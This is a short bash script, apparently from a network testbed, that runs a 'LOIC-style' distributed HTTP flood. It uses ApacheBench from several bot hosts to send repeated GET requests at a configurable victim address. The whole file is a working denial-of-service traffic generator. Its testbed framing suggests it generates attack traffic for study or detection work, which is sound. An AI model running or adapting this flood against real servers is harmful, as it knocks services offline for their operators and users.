#!/usr/bin/env bash
# LOIC-style HTTP flood from several hosts (ApacheBench): the same GET over and over, one connection
# per request, TB_COUNT requests in all.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
read -ra bots <<< "$TB_BOTS"
hosts=("$TB_NS" "${bots[@]}")
per=$(( TB_COUNT / ${#hosts[@]} )); [ "$per" -ge 1 ] || per=1
for h in "${hosts[@]}"; do
  tb_bg "$h" ab -q -r -t "$TB_SECONDS" -n "$per" -c 16 -s 5 "http://$TB_VICTIM/" > /dev/null 2>&1
done
wait
